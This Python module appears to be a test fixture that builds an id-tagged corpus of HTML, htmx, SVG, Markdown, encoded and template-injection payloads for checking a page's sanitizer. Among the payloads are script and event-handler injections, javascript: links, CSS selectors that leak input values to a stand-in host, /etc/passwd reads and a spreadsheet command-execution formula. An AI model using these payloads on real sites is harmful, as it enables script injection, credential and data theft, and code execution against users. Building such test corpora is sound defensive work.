"""Texts that would do something if any page took them for markup: MARKUP-001 and on.

In each, `JS` stands for a call that notes that it ran, `URL` for another site's address and `PATH`
for one of ours; all three carry the id, so that whatever happens can be traced to its text.
"""
# ruff: noqa: E501

SCRIPTS = r"""
<script>JS</script>
<SCRIPT>JS</SCRIPT>
<script/x>JS</script>
<script >JS</script >
<script src="URL"></script>
<script src=//evil.test/ID></script>
<script src=data:text/javascript,JS></script>
<script type=module>JS</script>
<script type=module src=URL></script>
<script type=text/vbscript>JS</script>
<script defer src=PATH></script>
<script async src=PATH></script>
<script nomodule>JS</script>
<script nonce=x>JS</script>
<scr<script>ipt>JS</scr</script>ipt>
<script><!--JS--></script>
<script>/*<![CDATA[*/JS/*]]>*/</script>
</script><script>JS</script>
</textarea><script>JS</script>
</title><script>JS</script>
</style><script>JS</script>
</div></article></section><script>JS</script>
--><script>JS</script>
]]><script>JS</script>
"><script>JS</script>
'><script>JS</script>
</pre><script>JS</script>
<script>JS
<script	>JS</script>
<%00script>JS</script>
"""

HANDLERS = (
    r"""
<img src=x onerror=JS>
<img src=x onerror="JS">
<img src=x:x onerror=JS//
<img src onerror=JS>
<IMG """
    + '"""'
    + r"""><SCRIPT>JS</SCRIPT>">
<img/src=x/onerror=JS>
<img src="x`x" onerror=JS>
<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=JS>
<image src=x onerror=JS>
<body onload=JS>
<body onpageshow=JS>
<body onhashchange=JS>
<input autofocus onfocus=JS>
<select autofocus onfocus=JS>
<textarea autofocus onfocus=JS>
<button autofocus onfocus=JS>x</button>
<a href=# onclick=JS autofocus onfocus=JS>x</a>
<div tabindex=0 autofocus onfocus=JS>x</div>
<details open ontoggle=JS>x</details>
<video src=x onerror=JS></video>
<video><source onerror=JS></video>
<audio src=x onerror=JS></audio>
<audio autoplay onloadstart=JS src=data:,></audio>
<marquee onstart=JS>x</marquee>
<object data=x onerror=JS></object>
<iframe onload=JS></iframe>
<frameset onload=JS>
<style onload=JS></style>
<link rel=stylesheet href=x onerror=JS>
<track default src=x onerror=JS>
<dialog open onclose=JS>x</dialog>
<div onpointerenter=JS>x</div>
<div onmouseover=JS style=position:fixed;inset:0>x</div>
<div onanimationstart=JS style=animation:sweep>x</div>
<div ontransitionend=JS>x</div>
<div onscrollend=JS>x</div>
<p oncontentvisibilityautostatechange=JS style=content-visibility:auto>x</p>
<form onformdata=JS><input autofocus></form>
<x onclick=JS>x
" onfocus=JS autofocus x="
' onfocus=JS autofocus x='
` onfocus=JS autofocus x=`
" autofocus onfocus=JS tabindex=0 "
x" onerror="JS
<img src=x o&#110;error=JS>
<img src=x on
error=JS>
<img src=x onerror&#61;JS>
<<img src=x onerror=JS>
"""
)

HTMX = r"""
<div hx-get=PATH hx-trigger=load></div>
<div hx-post=PATH hx-trigger=load></div>
<div hx-put=PATH hx-trigger="every 1s"></div>
<div hx-delete=PATH hx-trigger=load></div>
<div hx-patch=PATH hx-trigger=revealed></div>
<div data-hx-get=PATH data-hx-trigger=load></div>
<div hx-get=URL hx-trigger=load></div>
<div hx-on:load=JS hx-trigger=load></div>
<div hx-on::load=JS></div>
<div hx-on--load=JS></div>
<div hx-on="load: JS"></div>
<div data-hx-on:click=JS>x</div>
<div hx-get=PATH hx-trigger="load[JS]"></div>
<div hx-get=PATH hx-trigger=load hx-vals="js:{a: JS}"></div>
<div hx-get=PATH hx-trigger=load hx-vars="a:JS"></div>
<div hx-get=PATH hx-trigger=load hx-headers="javascript:{a: JS}"></div>
<div hx-ext=ws ws-connect=PATH></div>
<div hx-ext=sse sse-connect=PATH></div>
<div hx-ws="connect:PATH"></div>
<div hx-swap-oob=true id=toasts><script>JS</script></div>
<div hx-swap-oob="innerHTML:#board">x</div>
<div hx-swap-oob="beforeend:body"><img src=x onerror=JS></div>
<a hx-boost=true href=PATH>x</a>
<form hx-post=PATH hx-trigger=load><input name=a></form>
<body hx-get=PATH hx-trigger=load>
<div hx-disable=false hx-get=PATH hx-trigger=load></div>
<div hx-disinherit=* hx-history=false hx-get=PATH hx-trigger="intersect once"></div>
<div data-markdown=PATH data-socket=PATH data-stop=PATH data-copy=board data-open=raw>x</div>
<template hx-get=PATH hx-trigger=load></template>
"""

FOREIGN = r"""
<svg onload=JS>
<svg/onload=JS>
<svg><script>JS</script></svg>
<svg><script href=URL /></svg>
<svg><script xlink:href="data:text/javascript,JS"/></svg>
<svg><a xlink:href="javascript:JS"><text y=20>x</text></a></svg>
<svg><a href="javascript:JS"><rect width=99 height=99 /></a></svg>
<svg><animate onbegin=JS attributeName=x dur=1s>
<svg><set onbegin=JS attributeName=x>
<svg><animate xlink:href=#x attributeName=href values=javascript:JS /><a id=x><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x><script>JS</script></svg>#x" /></svg>
<svg><use href=URL#x /></svg>
<svg><image href=URL /></svg>
<svg><feImage href=URL /></svg>
<svg><foreignObject><img src=x onerror=JS></foreignObject></svg>
<svg><style>@import "URL";</style></svg>
<svg><style><img src=x onerror=JS></style></svg>
<svg><title><style><img src=x onerror=JS></style></title></svg>
<svg></p><style><a id="</style><img src=x onerror=JS>">
<math><mtext><table><mglyph><style><img src=x onerror=JS>
<math><annotation-xml encoding="text/html"><img src=x onerror=JS></annotation-xml></math>
<math href="javascript:JS">x</math>
<math><mi xlink:href="javascript:JS">x</mi></math>
<math><maction actiontype=statusline xlink:href="javascript:JS">x</maction></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=JS>
<noscript><p title="</noscript><img src=x onerror=JS>"></noscript>
<template><img src=x onerror=JS></template>
<template shadowrootmode=open><img src=x onerror=JS></template>
<xmp><p title="</xmp><img src=x onerror=JS>"></xmp>
<listing>&lt;img src=x onerror=JS&gt;</listing>
<plaintext><img src=x onerror=JS>
<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">JS</x:script>
<!DOCTYPE x [<!ENTITY e SYSTEM "URL">]><x>&e;</x>
<!--<img src=x onerror=JS>-->
<!--><img src=x onerror=JS>-->
<!--[if gte IE 4]><script>JS</script><![endif]-->
<![CDATA[<img src=x onerror=JS>]]>
<?php echo "<script>JS</script>" ?>
"""

ELEMENTS = r"""
<iframe src="javascript:JS"></iframe>
<iframe srcdoc="<script>parent.JS</script>"></iframe>
<iframe src=URL></iframe>
<frame src=URL>
<object data="javascript:JS"></object>
<object data=URL type=text/html></object>
<embed src="javascript:JS">
<embed src=URL>
<applet code=URL></applet>
<portal src=URL></portal>
<fencedframe src=URL></fencedframe>
<base href=URL>
<base target=_blank href="javascript:/">
<meta http-equiv=refresh content="0;url=URL">
<meta http-equiv=refresh content="0;url=javascript:JS">
<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'">
<meta name=htmx-config content='{"allowEval":true,"selfRequestsOnly":false}'>
<meta name=referrer content=unsafe-url>
<link rel=stylesheet href=URL>
<link rel=preload href=URL as=image>
<link rel=prefetch href=URL>
<link rel=dns-prefetch href=URL>
<link rel=modulepreload href=URL>
<link rel=icon href=URL>
<link rel=manifest href=URL>
<style>@import "URL";</style>
<style>*{display:none!important}</style>
<style>input[value^=a]{background:url(URL)}</style>
<p style="background:url(URL)">x</p>
<p style="position:fixed;inset:0;z-index:9999;background:red">x</p>
<p style="width:expression(JS)">x</p>
<div class="dialog drawer app" id=board>x</div>
<form action=URL><button>x</button></form>
<form action="javascript:JS"><input type=submit></form>
<button form=prompt formaction="javascript:JS">x</button>
<button form=prompt formaction=URL>x</button>
<input type=image src=URL formaction=URL>
<input name=csrfmiddlewaretoken form=prompt value=x>
<input name=column form=prompt value=x>
<isindex type=image src=x onerror=JS>
<a href="javascript:JS">x</a>
<a href=" javascript:JS">x</a>
<a href="&#1;javascript:JS">x</a>
<a href="java	script:JS">x</a>
<a href=URL ping=URL download>x</a>
<area href="javascript:JS">
<img src=URL>
<img srcset="URL 1x">
<picture><source srcset=URL><img></picture>
<video poster=URL src=URL autoplay></video>
<audio src=URL autoplay></audio>
<bgsound src=URL>
<table background=URL><td background=URL>
<body background=URL>
<img name=getElementById><img id=htmx><form id=run name=site>
<a id=site><a id=site name=post href=URL>
"""

MARKDOWN = r"""
![x](URL)
![x](URL "JS")
![x](<URL>)
![x][1]\n\n[1]: URL
![](URL)
![x]( URL )
![![x](URL)](URL)
[![x](URL)](javascript:JS)
!\[x](URL)
&#33;[x](URL)
[x](javascript:JS)
[x](JAVASCRIPT:JS)
[x]( javascript:JS)
[x](<javascript:JS>)
[x](javascript&colon;JS)
[x](javascript&#58;JS)
[x](&#106;avascript:JS)
[x](&#x6A;avascript:JS)
[x](java&Tab;script:JS)
[x](java&NewLine;script:JS)
[x](\javascript:JS)
[x](javascript\:JS)
[x](vbscript:JS)
[x](data:text/html,<script>JS</script>)
[x](data:text/html;base64,PHNjcmlwdD5KUzwvc2NyaXB0Pg==)
[x](data:image/svg+xml,<svg onload=JS>)
[x](livescript:JS)
[x](mocha:JS)
[x](blob:URL)
[x](filesystem:URL)
[x](file:///etc/passwd)
[x](//evil.test/ID)
[x](\\evil.test\ID)
[x](/logout/)
[x](PATH)
[x](#board)
[x](URL "title\" onmouseover=\"JS")
[x](URL 'title" onmouseover="JS')
[x](URL" onmouseover="JS)
[x](URL\"onmouseover=JS)
[x" onmouseover="JS](URL)
[<img src=x onerror=JS>](URL)
[x]: javascript:JS\n\n[x]
[x]:\njavascript:JS\n'title'\n\n[x]
[x][javascript:JS]
<javascript:JS>
<JaVaScRiPt:JS>
<data:text/html,JS>
<vbscript:JS>
<URL>
<URL"onmouseover="JS>
<a@b.test"onmouseover=JS>
<mailto:a@b.test?body=URL>
URL
www.evil.test/ID
`<script>JS</script>`
``<img src=x onerror=JS>``
```\n<script>JS</script>\n```
```"><script>JS</script>\nx\n```
~~~ <img/src=x/onerror=JS>\nx\n~~~
    <script>JS</script>
| <img src=x onerror=JS> | b |\n|---|---|\n| [x](javascript:JS) | ![x](URL) |
| a |\n|:-" onmouseover="JS":|\n| b |
# <img src=x onerror=JS>
# x {#board onclick=JS}
x{onclick=JS}
> <script>JS</script>
- <script>JS</script>
1. <script>JS</script>
**<b onclick=JS>x</b>**
*[x](javascript:JS)*
\<script>JS\</script>
<div>\n\n<script>JS</script>\n\n</div>
<p>*x*\n<script>JS</script>
[x]: URL "<script>JS</script>"\n\n[x]
[^1]\n\n[^1]: <script>JS</script>
$$\href{javascript:JS}{x}$$
- [ ] <input autofocus onfocus=JS>
"""

ENCODED = r"""
&lt;script&gt;JS&lt;/script&gt;
&#60;script&#62;JS&#60;/script&#62;
&#x3c;script&#x3e;JS&#x3c;/script&#x3e;
&#x3cscript&#x3eJS&#x3c/script&#x3e
&#0000060;img src=x onerror=JS&#0000062;
&amp;lt;img src=x onerror=JS&amp;gt;
&ltimg src=x onerror=JS&gt
%3Cscript%3EJS%3C/script%3E
\u003cscript\u003eJS\u003c/script\u003e
\x3cscript\x3eJS\x3c/script\x3e
+ADw-script+AD4-JS+ADw-/script+AD4-
＜script＞JS＜/script＞
‹script›JS‹/script›
<ſcript>JS</ſcript>
<ScRiPt>JS</sCrIpT>
<script​>JS</script>
<‮tpircs>JS</script>
{{constructor.constructor('JS')()}}
{% include "/etc/passwd" %}{% load static %}{{ request.session }}
${JS}
#{JS}
<%= JS %>
{{{JS}}}
[[JS]]
{"type": "call", "id": "x", "html": "<img src=x onerror=JS>"}
{"type":"part","text":"{\"type\":\"delta\"}","last":true}
event: run\ndata: {"status":"ended"}\n\n
\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>JS</script>
data: [DONE]\n\n<script>JS</script>
=HYPERLINK("URL","x")
=cmd|'/C calc'!A0
"""

BOMBS = [
    ">" * 3000 + "<script>JS</script>",
    "[" * 3000 + "<script>JS</script>" + "](javascript:JS)" * 300,
    "<div>" * 2000 + "<img src=x onerror=JS>",
    "**" * 2000 + "<script>JS</script>",
    "\n".join("  " * depth + "- <script>JS</script>" for depth in range(200)),
    "|" + "a|" * 500 + "\n|" + "-|" * 500 + "\n" + "|<img src=x onerror=JS>\n" * 300,
    "&" * 3000 + "<script>JS</script>",
    "<svg>" * 1000 + "<script>JS</script>",
    "`" * 3000 + "<script>JS</script>",
    "<!--" * 1000 + "--><script>JS</script>",
    "<a href='" + "x" * 20000 + "' onclick=JS>",
    "\u202e\u2066<script>JS</script>\u2069" * 50,
    "Z\u0300" * 2000 + "<img src=x onerror=JS>",
]

FAMILIES = (SCRIPTS, HANDLERS, HTMX, FOREIGN, ELEMENTS, MARKDOWN, ENCODED)


def payloads() -> dict[str, str]:
    """Id -> text, every id in it."""
    lines = [line for family in FAMILIES for line in family.strip("\n").split("\n")]
    texts = [line.replace("\\n", "\n").replace("\\r", "\r") for line in lines] + BOMBS
    return {
        f"MARKUP-{number:03}": _with_id(text, f"MARKUP-{number:03}")
        for number, text in enumerate(texts, 1)
    }


def _with_id(text: str, name: str) -> str:
    text = text.replace("JS", f"PWN('{name}')").replace("URL", f"http://evil.test/{name}")
    return text.replace("PATH", f"/pwned/{name}").replace("ID", name)
